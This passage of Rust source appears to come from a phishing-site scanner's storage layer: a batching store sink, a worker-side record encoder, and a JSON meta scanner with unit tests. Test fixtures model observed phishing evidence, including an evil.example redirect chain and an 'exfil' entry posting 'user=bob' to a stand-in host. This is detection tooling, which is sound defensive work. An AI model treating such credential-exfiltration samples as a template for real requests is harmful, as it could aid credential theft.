//! bit-identical logs, a fraction of the fsyncs and none of the
//! delivery-thread serialization.

use crate::encoded::EncodedRecord;
use crate::store::Store;
use cb_sim::{SimDuration, SimTime};
use crawlerbox::{EncodedSink, RecordSink, ScanRecord};
use std::io;

/// Streams scan records into a [`Store`], forwarding each (with its
/// artifact bytes dropped — they now live in the blob store) to an inner
/// sink for in-memory aggregation.
#[derive(Debug)]
pub struct StoreSink<S = ()> {
    store: Store,
    inner: S,
    error: Option<io::Error>,
    appended: usize,
    dropped: usize,
}

impl StoreSink<()> {
    /// A sink that only persists (no inner aggregation).
    pub fn new(store: Store) -> StoreSink<()> {
        StoreSink::with_inner(store, ())
    }
}

impl<S: RecordSink> StoreSink<S> {
    /// A sink that persists every record and forwards it to `inner`.
    pub fn with_inner(store: Store, inner: S) -> StoreSink<S> {
        StoreSink { store, inner, error: None, appended: 0, dropped: 0 }
    }

    /// Records appended so far (excludes records dropped after poisoning).
    pub fn appended(&self) -> usize {
        self.appended
    }

    /// Records dropped because the sink was poisoned (includes the record
    /// whose append failed).
    pub fn dropped(&self) -> usize {
        self.dropped
    }

    /// The first append error, if the sink is poisoned.
    pub fn error(&self) -> Option<&io::Error> {
        self.error.as_ref()
    }

    /// Borrow the underlying store (e.g. for mid-stream stats).
    pub fn store(&self) -> &Store {
        &self.store
    }

    /// Borrow the inner sink.
    pub fn inner(&self) -> &S {
        &self.inner
    }

    /// Sync the log durably and hand back the store and inner sink.
    ///
    /// # Errors
    ///
    /// The first append error when the sink was poisoned, or the final
    /// flush/fsync failure.
    pub fn finish(mut self) -> io::Result<(Store, S)> {
        if let Some(e) = self.error.take() {
            return Err(e);
        }
        self.store.sync()?;
        Ok((self.store, self.inner))
    }
}

impl<S: RecordSink> RecordSink for StoreSink<S> {
    fn accept(&mut self, mut record: ScanRecord) {
        if self.error.is_none() {
            match self.store.append(&record) {
                Ok(()) => self.appended += 1,
                Err(e) => {
                    self.error = Some(e);
                    self.dropped += 1;
                }
            }
        } else {
            self.dropped += 1;
        }
        // The artifact bytes are persisted (or the sink is poisoned);
        // either way the inner sink must not retain them.
        record.artifacts = Vec::new();
        self.inner.accept(record);
    }
}

/// The group-commit ingest sink: buffers worker-encoded records and
/// appends them in batches sized by the store's commit knobs
/// ([`commit_batch`](crate::StoreOptions::commit_batch) records,
/// [`commit_max_bytes`](crate::StoreOptions::commit_max_bytes) frame
/// bytes, [`commit_max_hold`](crate::StoreOptions::commit_max_hold) of
/// delivery sim-time). Records are forwarded to the inner sink
/// immediately in delivery order; the on-disk log is bit-identical to the
/// [`StoreSink`] oracle at any batch size.
#[derive(Debug)]
pub struct EncodedStoreSink<S = ()> {
    store: Store,
    inner: S,
    error: Option<io::Error>,
    appended: usize,
    dropped: usize,
    buf: Vec<EncodedRecord>,
    buf_bytes: u64,
    buf_span: Option<(SimTime, SimTime)>,
}

impl EncodedStoreSink<()> {
    /// A sink that only persists (no inner aggregation).
    pub fn new(store: Store) -> EncodedStoreSink<()> {
        EncodedStoreSink::with_inner(store, ())
    }
}

impl<S: RecordSink> EncodedStoreSink<S> {
    /// A sink that persists every record and forwards it to `inner`.
    pub fn with_inner(store: Store, inner: S) -> EncodedStoreSink<S> {
        EncodedStoreSink {
            store,
            inner,
            error: None,
            appended: 0,
            dropped: 0,
            buf: Vec::new(),
            buf_bytes: 0,
            buf_span: None,
        }
    }

    /// Records appended so far (flushed batches only).
    pub fn appended(&self) -> usize {
        self.appended
    }

    /// Records dropped because the sink was poisoned (includes the batch
    /// whose append failed).
    pub fn dropped(&self) -> usize {
        self.dropped
    }

    /// The first append/encode error, if the sink is poisoned.
    pub fn error(&self) -> Option<&io::Error> {
        self.error.as_ref()
    }

    /// Borrow the underlying store (e.g. for mid-stream stats).
    pub fn store(&self) -> &Store {
        &self.store
    }

    /// Borrow the inner sink.
    pub fn inner(&self) -> &S {
        &self.inner
    }

    /// Whether the buffered records must flush now — mirrors the store's
    /// own commit caps so batches arrive commit-sized.
    fn flush_due(&self) -> bool {
        if self.buf.len() >= self.store.commit_batch() {
            return true;
        }
        let max_bytes = self.store.commit_max_bytes();
        if max_bytes > 0 && self.buf_bytes >= max_bytes {
            return true;
        }
        let hold = self.store.commit_max_hold();
        if hold > SimDuration::ZERO {
            if let Some((oldest, newest)) = self.buf_span {
                if newest.since(oldest) >= hold {
                    return true;
                }
            }
        }
        false
    }

    fn flush_buf(&mut self) {
        if self.buf.is_empty() {
            return;
        }
        let batch = std::mem::take(&mut self.buf);
        self.buf_bytes = 0;
        self.buf_span = None;
        let n = batch.len();
        if self.error.is_some() {
            self.dropped += n;
            return;
        }
        match self.store.append_batch(batch) {
            Ok(()) => self.appended += n,
            Err(e) => {
                self.error = Some(e);
                self.dropped += n;
            }
        }
    }

    /// Flush any buffered batch, sync the log durably and hand back the
    /// store and inner sink.
    ///
    /// # Errors
    ///
    /// The first append/encode error when the sink was poisoned, or the
    /// final flush/fsync failure.
    pub fn finish(mut self) -> io::Result<(Store, S)> {
        self.flush_buf();
        if let Some(e) = self.error.take() {
            return Err(e);
        }
        self.store.sync()?;
        Ok((self.store, self.inner))
    }
}

impl<S: RecordSink> EncodedSink<io::Result<EncodedRecord>> for EncodedStoreSink<S> {
    fn accept_encoded(&mut self, record: ScanRecord, encoded: io::Result<EncodedRecord>) {
        if self.error.is_some() {
            self.dropped += 1;
        } else {
            match encoded {
                Ok(enc) => {
                    self.buf_bytes += enc.frame.len() as u64;
                    let at = enc.delivered_at;
                    self.buf_span = Some(match self.buf_span {
                        None => (at, at),
                        Some((lo, hi)) => (lo.min(at), hi.max(at)),
                    });
                    self.buf.push(enc);
                    if self.flush_due() {
                        self.flush_buf();
                    }
                }
                Err(e) => {
                    self.error = Some(e);
                    self.dropped += 1;
                }
            }
        }
        // The encoder already took the artifact bytes off the record on
        // the worker; the inner sink sees it artifact-free either way.
        self.inner.accept(record);
    }
}
