//! Producer-side record encoding: the worker half of the group-commit
//! ingest pipeline.
//!
//! On the owned-record path, `StoreSink::accept` performs canonical JSON
//! serialization, meta derivation and CRC framing on `scan_stream`'s
//! delivery thread — the serial tail of the pipeline. [`StoreEncoder`]
//! moves all of that onto the scan workers via
//! [`scan_stream_encoded`](crawlerbox::CrawlerBox::scan_stream_encoded):
//! each worker emits an [`EncodedRecord`] carrying the canonical payload
//! bytes, the pre-built (CRC'd) blob-ref + record frames, the derived
//! [`RecordMeta`] and the captured artifact bytes, so the delivery thread
//! only routes bytes to shards and the store only writes them.
//!
//! The encoding is byte-identical to the owned-record path: artifacts are
//! taken off the record *before* serialization, which changes nothing
//! because `ScanRecord.artifacts` is `#[serde(skip)]` — the canonical
//! encoding never contains them. The owned-record `StoreSink` path stays
//! in place as the reference oracle; `tests/store.rs` asserts both paths
//! produce bit-identical logs.

use crate::frame::{encode_blob_refs, encode_frame, KIND_BLOB_REF, KIND_RECORD};
use crate::index::RecordMeta;
use cb_sim::SimTime;
use crawlerbox::{CapturedArtifact, RecordEncoder, ScanRecord};
use std::io;

/// One record, fully encoded on a scan worker and ready to route: the
/// store's delivery-thread work is reduced to blob writes and a frame
/// append on the owning shard.
#[derive(Debug, Clone)]
pub struct EncodedRecord {
    /// Delivery instant of the record (for sim-time commit caps).
    pub delivered_at: SimTime,
    /// Derived index meta. `seq` is a placeholder (0) until the store
    /// assigns the shard-local log position at insert.
    pub meta: RecordMeta,
    /// Canonical record payload length in bytes (the record frame's
    /// payload, excluding headers and the blob-ref frame).
    pub payload_len: usize,
    /// The bytes to append: the blob-ref frame (when artifacts are
    /// present) followed by the record frame, CRCs included, exactly as
    /// the owned-record path would build them.
    pub frame: Vec<u8>,
    /// Blob addresses referenced by the frame, in artifact order.
    pub refs: Vec<u128>,
    /// The artifact bytes to write to the blob store *before* the frame.
    pub artifacts: Vec<CapturedArtifact>,
}

/// Encode `record` for the store on the calling (worker) thread, taking
/// its artifact bytes (the downstream sink sees the record with artifacts
/// already shed, exactly like the owned-record `StoreSink` path).
///
/// # Errors
///
/// Canonical serialization failure (never expected for well-formed
/// records).
pub fn encode_record(record: &mut ScanRecord) -> io::Result<EncodedRecord> {
    let artifacts = std::mem::take(&mut record.artifacts);
    let refs: Vec<u128> = artifacts.iter().map(|a| a.hash).collect();
    // Artifacts are #[serde(skip)], so taking them first leaves the
    // canonical payload bytes unchanged.
    let payload =
        serde_json::to_vec(record).map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))?;
    let meta = RecordMeta::of(0, record);
    let mut frame = Vec::with_capacity(payload.len() + 64);
    if !refs.is_empty() {
        frame.extend_from_slice(&encode_frame(KIND_BLOB_REF, &encode_blob_refs(&refs)));
    }
    frame.extend_from_slice(&encode_frame(KIND_RECORD, &payload));
    Ok(EncodedRecord {
        delivered_at: record.delivered_at,
        meta,
        payload_len: payload.len(),
        frame,
        refs,
        artifacts,
    })
}

/// The [`RecordEncoder`] that runs [`encode_record`] on every scan worker.
/// Pair with
/// [`EncodedStoreSink`](crate::sink::EncodedStoreSink) via
/// [`scan_stream_encoded`](crawlerbox::CrawlerBox::scan_stream_encoded).
#[derive(Debug, Clone, Copy, Default)]
pub struct StoreEncoder;

impl RecordEncoder for StoreEncoder {
    type Encoded = io::Result<EncodedRecord>;

    fn encode(&self, record: &mut ScanRecord) -> io::Result<EncodedRecord> {
        encode_record(record)
    }
}
