//! Borrowed meta extraction from canonical record payloads.
//!
//! Recovery used to deserialize every segment payload into a full
//! `ScanRecord` — materializing every visit chain, subresource list and
//! exfil body as owned `String`s — only to boil it straight down into a
//! compact [`RecordMeta`](crate::index::RecordMeta). This module walks the
//! payload bytes once instead, borrowing the handful of spans the index
//! needs (message id, content hash, class, error presence, and per-visit
//! landing/cert/phash evidence) and skipping everything else in place.
//!
//! The walk still validates what the old decode validated where it
//! matters for corruption adjudication: the payload must be one
//! syntactically complete JSON object with nothing trailing, every field
//! the canonical encoding always writes must be present exactly once, and
//! every extracted field must have the type the record schema gives it.
//! Fields the index never reads are skipped as arbitrary JSON values
//! rather than re-type-checked — a CRC-valid payload that is a complete
//! JSON object carrying the full required field set with correctly typed
//! evidence fields, yet mistypes an unread field, is not a corruption
//! shape that occurs in practice, and debug builds cross-check every
//! accepted payload against the full serde decode (see
//! [`shard`](crate::shard)).
//!
//! Strings are returned as `Cow::Borrowed` unless they contain escapes —
//! canonical URLs and class names never do, so steady-state recovery
//! allocates one `Vec` of visit facts per record and nothing per string.

use std::borrow::Cow;
use std::fmt;

/// Nesting bound while skipping unread values (serde_json's own limit).
const MAX_DEPTH: u32 = 128;

/// Why a payload failed the meta scan, with the byte offset.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct ScanError {
    /// Byte offset of the failure.
    pub at: usize,
    /// Human-readable reason.
    pub reason: String,
}

impl fmt::Display for ScanError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} at byte {}", self.reason, self.at)
    }
}

/// The index-relevant facts of one visit.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct ScannedVisit<'a> {
    /// The `requested_url` field.
    pub requested_url: Cow<'a, str>,
    /// URL of the last `chain` entry (`None` when the chain is empty, in
    /// which case the landing URL is the requested URL).
    pub final_url: Option<Cow<'a, str>>,
    /// The `cert_fingerprint` field.
    pub cert_fingerprint: Option<u64>,
    /// `screenshot_hash.phash`, when a screenshot was captured.
    pub phash: Option<u64>,
}

/// The index-relevant facts of one record payload.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct ScannedRecord<'a> {
    /// The `message_id` field.
    pub message_id: usize,
    /// The `content_hash` field (0 when absent, matching its serde
    /// default).
    pub content_hash: u128,
    /// The `class` variant name, undecoded.
    pub class: Cow<'a, str>,
    /// Whether the `error` field holds a string (scan degraded).
    pub degraded: bool,
    /// Per-visit evidence, in log order.
    pub visits: Vec<ScannedVisit<'a>>,
}

/// Fields the canonical record encoding always writes. `content_hash` and
/// `error` are `#[serde(default)]` on the record and may be absent in
/// legacy payloads.
const RECORD_REQUIRED: [&str; 8] = [
    "message_id",
    "delivered_at",
    "auth_pass",
    "extracted",
    "visits",
    "body_bytes",
    "blank_line_run",
    "class",
];

/// Fields the canonical visit encoding always writes (`cert_fingerprint`,
/// `attempts`, `elapsed` and `error` are defaulted and may be absent).
const VISIT_REQUIRED: [&str; 18] = [
    "requested_url",
    "chain",
    "outcome",
    "status",
    "login_form",
    "screenshot_hash",
    "spear",
    "subresources",
    "exfil",
    "console_hijacked",
    "debugger_hits",
    "gates_solved",
    "domain_registered_at",
    "registrar",
    "cert_issued_at",
    "dns_volume",
    "banner",
    "hue_rotated",
];

/// Scan one canonical record payload, extracting the index facts without
/// materializing the record.
///
/// # Errors
///
/// Any syntax error, truncation, trailing bytes, duplicated or missing
/// required field, or mistyped extracted field.
pub(crate) fn scan_record(payload: &[u8]) -> Result<ScannedRecord<'_>, ScanError> {
    let mut c = Cursor { b: payload, at: 0, depth: 0 };
    let rec = c.record()?;
    c.skip_ws();
    if c.at != c.b.len() {
        return Err(c.err("trailing bytes after record"));
    }
    Ok(rec)
}

struct Cursor<'a> {
    b: &'a [u8],
    at: usize,
    depth: u32,
}

impl<'a> Cursor<'a> {
    fn err(&self, reason: impl Into<String>) -> ScanError {
        ScanError { at: self.at, reason: reason.into() }
    }

    fn peek(&self) -> Option<u8> {
        self.b.get(self.at).copied()
    }

    fn skip_ws(&mut self) {
        while matches!(self.peek(), Some(b' ' | b'\t' | b'\n' | b'\r')) {
            self.at += 1;
        }
    }

    fn expect(&mut self, want: u8) -> Result<(), ScanError> {
        self.skip_ws();
        if self.peek() == Some(want) {
            self.at += 1;
            Ok(())
        } else {
            Err(self.err(format!("expected {:?}", want as char)))
        }
    }

    /// The top-level record object.
    fn record(&mut self) -> Result<ScannedRecord<'a>, ScanError> {
        let mut out = ScannedRecord {
            message_id: 0,
            content_hash: 0,
            class: Cow::Borrowed(""),
            degraded: false,
            visits: Vec::new(),
        };
        let mut seen: Vec<&str> = Vec::new();
        self.object(|c, key| {
            match key.as_ref() {
                "message_id" => out.message_id = c.uint()? as usize,
                "content_hash" => out.content_hash = c.uint128()?,
                "class" => out.class = c.string()?,
                "error" => out.degraded = c.nullable_string()?.is_some(),
                "visits" => {
                    c.expect(b'[')?;
                    c.skip_ws();
                    if c.peek() == Some(b']') {
                        c.at += 1;
                    } else {
                        loop {
                            out.visits.push(c.visit()?);
                            c.skip_ws();
                            match c.peek() {
                                Some(b',') => c.at += 1,
                                Some(b']') => {
                                    c.at += 1;
                                    break;
                                }
                                _ => return Err(c.err("expected ',' or ']' in visits")),
                            }
                        }
                    }
                }
                _ => c.skip_value()?,
            }
            track_seen(c, &mut seen, key)
        })?;
        for want in RECORD_REQUIRED {
            if !seen.contains(&want) {
                return Err(self.err(format!("record missing field {want:?}")));
            }
        }
        Ok(out)
    }

    /// One element of the `visits` array.
    fn visit(&mut self) -> Result<ScannedVisit<'a>, ScanError> {
        let mut out = ScannedVisit {
            requested_url: Cow::Borrowed(""),
            final_url: None,
            cert_fingerprint: None,
            phash: None,
        };
        let mut seen: Vec<&str> = Vec::new();
        self.object(|c, key| {
            match key.as_ref() {
                "requested_url" => out.requested_url = c.string()?,
                "cert_fingerprint" => out.cert_fingerprint = c.nullable_uint()?,
                "screenshot_hash" => out.phash = c.screenshot_phash()?,
                "chain" => {
                    // `Vec<(String, u16)>`: an array of two-element
                    // arrays. Only the last element's URL is evidence
                    // (the landing URL); statuses are skipped.
                    c.expect(b'[')?;
                    c.skip_ws();
                    if c.peek() == Some(b']') {
                        c.at += 1;
                    } else {
                        loop {
                            c.expect(b'[')?;
                            out.final_url = Some(c.string()?);
                            c.expect(b',')?;
                            c.skip_value()?;
                            c.expect(b']')?;
                            c.skip_ws();
                            match c.peek() {
                                Some(b',') => c.at += 1,
                                Some(b']') => {
                                    c.at += 1;
                                    break;
                                }
                                _ => return Err(c.err("expected ',' or ']' in chain")),
                            }
                        }
                    }
                }
                _ => c.skip_value()?,
            }
            track_seen(c, &mut seen, key)
        })?;
        for want in VISIT_REQUIRED {
            if !seen.contains(&want) {
                return Err(self.err(format!("visit missing field {want:?}")));
            }
        }
        Ok(out)
    }

    /// `screenshot_hash`: `null`, or a hash-pair object whose `phash` is
    /// the indexed value.
    fn screenshot_phash(&mut self) -> Result<Option<u64>, ScanError> {
        self.skip_ws();
        if self.b[self.at..].starts_with(b"null") {
            self.at += 4;
            return Ok(None);
        }
        let mut phash = None;
        self.object(|c, key| {
            if key.as_ref() == "phash" {
                phash = Some(c.uint()?);
            } else {
                c.skip_value()?;
            }
            Ok(())
        })?;
        match phash {
            Some(p) => Ok(Some(p)),
            None => Err(self.err("screenshot_hash missing phash")),
        }
    }

    /// Walk one object, handing each key/value to `field` (which must
    /// consume the value).
    fn object(
        &mut self,
        mut field: impl FnMut(&mut Self, Cow<'a, str>) -> Result<(), ScanError>,
    ) -> Result<(), ScanError> {
        self.expect(b'{')?;
        self.skip_ws();
        if self.peek() == Some(b'}') {
            self.at += 1;
            return Ok(());
        }
        loop {
            let key = self.string()?;
            self.expect(b':')?;
            field(self, key)?;
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.at += 1,
                Some(b'}') => {
                    self.at += 1;
                    return Ok(());
                }
                _ => return Err(self.err("expected ',' or '}' in object")),
            }
        }
    }

    /// A JSON string, borrowed when escape-free.
    fn string(&mut self) -> Result<Cow<'a, str>, ScanError> {
        self.expect(b'"')?;
        let start = self.at;
        // Fast path: scan to the closing quote; fall to the slow path at
        // the first escape.
        loop {
            match self.peek() {
                None => return Err(self.err("unterminated string")),
                Some(b'"') => {
                    let raw = &self.b[start..self.at];
                    self.at += 1;
                    let s = std::str::from_utf8(raw)
                        .map_err(|e| self.err(format!("invalid UTF-8 in string: {e}")))?;
                    if let Some(ctl) = s.bytes().position(|b| b < 0x20) {
                        self.at = start + ctl;
                        return Err(self.err("unescaped control character in string"));
                    }
                    return Ok(Cow::Borrowed(s));
                }
                Some(b'\\') => break,
                Some(_) => self.at += 1,
            }
        }
        let mut owned = String::new();
        let prefix = std::str::from_utf8(&self.b[start..self.at])
            .map_err(|e| self.err(format!("invalid UTF-8 in string: {e}")))?;
        if let Some(ctl) = prefix.bytes().position(|b| b < 0x20) {
            self.at = start + ctl;
            return Err(self.err("unescaped control character in string"));
        }
        owned.push_str(prefix);
        loop {
            match self.peek() {
                None => return Err(self.err("unterminated string")),
                Some(b'"') => {
                    self.at += 1;
                    return Ok(Cow::Owned(owned));
                }
                Some(b'\\') => {
                    self.at += 1;
                    match self.peek() {
                        Some(b'"') => owned.push('"'),
                        Some(b'\\') => owned.push('\\'),
                        Some(b'/') => owned.push('/'),
                        Some(b'b') => owned.push('\u{8}'),
                        Some(b'f') => owned.push('\u{c}'),
                        Some(b'n') => owned.push('\n'),
                        Some(b'r') => owned.push('\r'),
                        Some(b't') => owned.push('\t'),
                        Some(b'u') => {
                            self.at += 1;
                            owned.push(self.unicode_escape()?);
                            continue;
                        }
                        _ => return Err(self.err("invalid escape")),
                    }
                    self.at += 1;
                }
                Some(c) if c < 0x20 => {
                    return Err(self.err("unescaped control character in string"))
                }
                Some(_) => {
                    let run = self.at;
                    while matches!(self.peek(), Some(c) if c != b'"' && c != b'\\' && c >= 0x20) {
                        self.at += 1;
                    }
                    owned.push_str(
                        std::str::from_utf8(&self.b[run..self.at])
                            .map_err(|e| self.err(format!("invalid UTF-8 in string: {e}")))?,
                    );
                }
            }
        }
    }

    /// The four hex digits after `\u`, pairing surrogates. Leaves the
    /// cursor on the last consumed digit (caller bumps past it).
    fn unicode_escape(&mut self) -> Result<char, ScanError> {
        let hi = self.hex4()?;
        if (0xDC00..=0xDFFF).contains(&hi) {
            return Err(self.err("unpaired low surrogate"));
        }
        if (0xD800..=0xDBFF).contains(&hi) {
            // A high surrogate must be chased by an escaped low one.
            if self.b[self.at..].first() != Some(&b'\\')
                || self.b[self.at + 1..].first() != Some(&b'u')
            {
                return Err(self.err("unpaired high surrogate"));
            }
            self.at += 2;
            let lo = self.hex4()?;
            if !(0xDC00..=0xDFFF).contains(&lo) {
                return Err(self.err("invalid low surrogate"));
            }
            let c = 0x10000 + ((hi - 0xD800) << 10) + (lo - 0xDC00);
            return char::from_u32(c).ok_or_else(|| self.err("invalid surrogate pair"));
        }
        char::from_u32(hi).ok_or_else(|| self.err("invalid unicode escape"))
    }

    fn hex4(&mut self) -> Result<u32, ScanError> {
        let digits = self
            .b
            .get(self.at..self.at + 4)
            .ok_or_else(|| self.err("truncated unicode escape"))?;
        let mut v = 0u32;
        for &d in digits {
            let nibble = match d {
                b'0'..=b'9' => d - b'0',
                b'a'..=b'f' => d - b'a' + 10,
                b'A'..=b'F' => d - b'A' + 10,
                _ => return Err(self.err("invalid unicode escape digit")),
            };
            v = (v << 4) | nibble as u32;
        }
        self.at += 4;
        Ok(v)
    }

    /// A non-negative integer with JSON number grammar (no sign, no
    /// fraction, no exponent, no leading zeros) fitting `u128`.
    fn uint128(&mut self) -> Result<u128, ScanError> {
        self.skip_ws();
        let start = self.at;
        let mut v: u128 = 0;
        while let Some(d @ b'0'..=b'9') = self.peek() {
            v = v
                .checked_mul(10)
                .and_then(|v| v.checked_add((d - b'0') as u128))
                .ok_or_else(|| self.err("integer out of range"))?;
            self.at += 1;
        }
        let len = self.at - start;
        if len == 0 {
            return Err(self.err("expected unsigned integer"));
        }
        if len > 1 && self.b[start] == b'0' {
            return Err(self.err("leading zero in integer"));
        }
        Ok(v)
    }

    fn uint(&mut self) -> Result<u64, ScanError> {
        let v = self.uint128()?;
        u64::try_from(v).map_err(|_| self.err("integer out of range"))
    }

    /// `null` or a string (the shape of a defaulted `Option<String>`).
    fn nullable_string(&mut self) -> Result<Option<Cow<'a, str>>, ScanError> {
        self.skip_ws();
        if self.b[self.at..].starts_with(b"null") {
            self.at += 4;
            Ok(None)
        } else {
            self.string().map(Some)
        }
    }

    /// `null` or an unsigned integer (the shape of `Option<u64>`).
    fn nullable_uint(&mut self) -> Result<Option<u64>, ScanError> {
        self.skip_ws();
        if self.b[self.at..].starts_with(b"null") {
            self.at += 4;
            Ok(None)
        } else {
            self.uint().map(Some)
        }
    }

    /// Skip one complete JSON value of any shape.
    fn skip_value(&mut self) -> Result<(), ScanError> {
        self.skip_ws();
        self.depth += 1;
        if self.depth > MAX_DEPTH {
            return Err(self.err("value nested too deeply"));
        }
        let result = match self.peek() {
            None => Err(self.err("unexpected end of payload")),
            Some(b'"') => self.string().map(drop),
            Some(b'{') => self.object(|c, _| c.skip_value()),
            Some(b'[') => {
                self.at += 1;
                self.skip_ws();
                if self.peek() == Some(b']') {
                    self.at += 1;
                    Ok(())
                } else {
                    loop {
                        self.skip_value()?;
                        self.skip_ws();
                        match self.peek() {
                            Some(b',') => self.at += 1,
                            Some(b']') => {
                                self.at += 1;
                                break Ok(());
                            }
                            _ => break Err(self.err("expected ',' or ']' in array")),
                        }
                    }
                }
            }
            Some(b't') => self.literal(b"true"),
            Some(b'f') => self.literal(b"false"),
            Some(b'n') => self.literal(b"null"),
            Some(b'-' | b'0'..=b'9') => self.skip_number(),
            Some(other) => Err(self.err(format!("unexpected byte {:?}", other as char))),
        };
        self.depth -= 1;
        result
    }

    fn literal(&mut self, word: &[u8]) -> Result<(), ScanError> {
        if self.b[self.at..].starts_with(word) {
            self.at += word.len();
            Ok(())
        } else {
            Err(self.err(format!("expected {:?}", String::from_utf8_lossy(word))))
        }
    }

    /// Skip one number with the strict JSON grammar.
    fn skip_number(&mut self) -> Result<(), ScanError> {
        if self.peek() == Some(b'-') {
            self.at += 1;
        }
        match self.peek() {
            Some(b'0') => self.at += 1,
            Some(b'1'..=b'9') => {
                while matches!(self.peek(), Some(b'0'..=b'9')) {
                    self.at += 1;
                }
            }
            _ => return Err(self.err("expected digit")),
        }
        if self.peek() == Some(b'.') {
            self.at += 1;
            if !matches!(self.peek(), Some(b'0'..=b'9')) {
                return Err(self.err("expected fraction digit"));
            }
            while matches!(self.peek(), Some(b'0'..=b'9')) {
                self.at += 1;
            }
        }
        if matches!(self.peek(), Some(b'e' | b'E')) {
            self.at += 1;
            if matches!(self.peek(), Some(b'+' | b'-')) {
                self.at += 1;
            }
            if !matches!(self.peek(), Some(b'0'..=b'9')) {
                return Err(self.err("expected exponent digit"));
            }
            while matches!(self.peek(), Some(b'0'..=b'9')) {
                self.at += 1;
            }
        }
        Ok(())
    }
}

/// Record `key` as seen, rejecting duplicates of the fields the scan
/// extracts or requires (serde's duplicate-field error; duplicates of
/// unknown fields are ignored, as serde ignores them).
fn track_seen<'a>(
    c: &Cursor<'_>,
    seen: &mut Vec<&'a str>,
    key: Cow<'_, str>,
) -> Result<(), ScanError> {
    const TRACKED: [&str; 31] = [
        "message_id",
        "content_hash",
        "delivered_at",
        "auth_pass",
        "extracted",
        "visits",
        "body_bytes",
        "blank_line_run",
        "class",
        "error",
        "requested_url",
        "chain",
        "outcome",
        "status",
        "login_form",
        "screenshot_hash",
        "spear",
        "subresources",
        "exfil",
        "console_hijacked",
        "debugger_hits",
        "gates_solved",
        "domain_registered_at",
        "registrar",
        "cert_issued_at",
        "dns_volume",
        "banner",
        "hue_rotated",
        "cert_fingerprint",
        "attempts",
        "elapsed",
    ];
    if let Some(&tracked) = TRACKED.iter().find(|t| **t == key.as_ref()) {
        if seen.contains(&tracked) {
            return Err(c.err(format!("duplicate field {tracked:?}")));
        }
        seen.push(tracked);
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A canonical-shaped visit with every always-written field.
    fn visit_json(requested: &str, chain: &str, cert: &str, shot: &str) -> String {
        format!(
            concat!(
                "{{\"requested_url\":\"{}\",\"chain\":{},\"outcome\":\"Loaded\",",
                "\"status\":200,\"login_form\":true,\"screenshot_hash\":{},",
                "\"spear\":null,\"subresources\":[[\"https://c.example/x.png\",200]],",
                "\"exfil\":[[\"https://c.example/post\",\"user=bob\",200]],",
                "\"console_hijacked\":false,\"debugger_hits\":0,\"gates_solved\":[\"otp\"],",
                "\"domain_registered_at\":12345,\"registrar\":\"NameCheap\",",
                "\"cert_issued_at\":null,\"dns_volume\":{{\"total\":7,\"days\":30}},",
                "\"banner\":null,\"cert_fingerprint\":{},\"hue_rotated\":false}}"
            ),
            requested, chain, shot, cert
        )
    }

    fn record_json(visits: &str) -> String {
        format!(
            concat!(
                "{{\"message_id\":42,\"content_hash\":340282366920938463463374607431768211455,",
                "\"delivered_at\":99,\"auth_pass\":true,\"extracted\":[{{\"url\":\"x\"}}],",
                "\"visits\":{},\"body_bytes\":2048,\"blank_line_run\":3,",
                "\"class\":\"ActivePhish\",\"error\":null}}"
            ),
            visits
        )
    }

    #[test]
    fn extracts_the_index_facts() {
        let v = visit_json(
            "https://evil.example/go",
            "[[\"https://evil.example/go\",302],[\"https://landing.example/p\",200]]",
            "777",
            "{\"phash\":11,\"dhash\":22}",
        );
        let json = record_json(&format!("[{v}]"));
        let rec = scan_record(json.as_bytes()).unwrap();
        assert_eq!(rec.message_id, 42);
        assert_eq!(rec.content_hash, u128::MAX);
        assert_eq!(rec.class, "ActivePhish");
        assert!(!rec.degraded);
        assert_eq!(rec.visits.len(), 1);
        let visit = &rec.visits[0];
        assert_eq!(visit.requested_url, "https://evil.example/go");
        assert_eq!(visit.final_url.as_deref(), Some("https://landing.example/p"));
        assert_eq!(visit.cert_fingerprint, Some(777));
        assert_eq!(visit.phash, Some(11));
    }

    #[test]
    fn defaults_match_the_serde_defaults() {
        // No content_hash / error keys at all (legacy shape), empty chain,
        // null cert and screenshot.
        let v = visit_json("https://a.example/q", "[]", "null", "null");
        let json = format!(
            concat!(
                "{{\"message_id\":1,\"delivered_at\":0,\"auth_pass\":false,",
                "\"extracted\":[],\"visits\":[{}],\"body_bytes\":0,",
                "\"blank_line_run\":0,\"class\":\"NoResource\"}}"
            ),
            v
        );
        let rec = scan_record(json.as_bytes()).unwrap();
        assert_eq!(rec.content_hash, 0);
        assert!(!rec.degraded);
        let visit = &rec.visits[0];
        assert_eq!(visit.final_url, None);
        assert_eq!(visit.cert_fingerprint, None);
        assert_eq!(visit.phash, None);
    }

    #[test]
    fn degraded_records_and_escaped_strings() {
        let json = concat!(
            "{\"message_id\":7,\"delivered_at\":0,\"auth_pass\":false,",
            "\"extracted\":[],\"visits\":[],\"body_bytes\":0,\"blank_line_run\":0,",
            "\"class\":\"ErrorPage\",\"error\":\"worker panic: \\\"boom\\\" \\u00e9\"}"
        );
        let rec = scan_record(json.as_bytes()).unwrap();
        assert!(rec.degraded);
        // Escape decoding is exercised through a visit URL too.
        let v = visit_json("https:\\/\\/odd.example\\/p", "[]", "null", "null");
        let json = record_json(&format!("[{v}]"));
        let rec = scan_record(json.as_bytes()).unwrap();
        assert_eq!(rec.visits[0].requested_url, "https://odd.example/p");
    }

    #[test]
    fn rejects_non_records() {
        for (payload, why) in [
            (&b"{}"[..], "empty object"),
            (b"[]", "not an object"),
            (b"not json", "not json"),
            (b"", "empty"),
            (b"{\"message_id\":1", "truncated"),
        ] {
            assert!(scan_record(payload).is_err(), "{why} must fail the scan");
        }
        let good = record_json("[]");
        assert!(scan_record(good.as_bytes()).is_ok());
        assert!(
            scan_record(format!("{good} x").as_bytes()).is_err(),
            "trailing bytes must fail"
        );
        // Dropping any required record field fails the scan.
        for field in RECORD_REQUIRED {
            let without = good.replace(&format!("\"{field}\":"), &format!("\"_{field}\":"));
            assert!(scan_record(without.as_bytes()).is_err(), "missing {field} must fail");
        }
        // Same per visit.
        let v = visit_json("https://a.example/q", "[]", "null", "null");
        let good = record_json(&format!("[{v}]"));
        for field in VISIT_REQUIRED {
            let without = good.replace(&format!("\"{field}\":"), &format!("\"_{field}\":"));
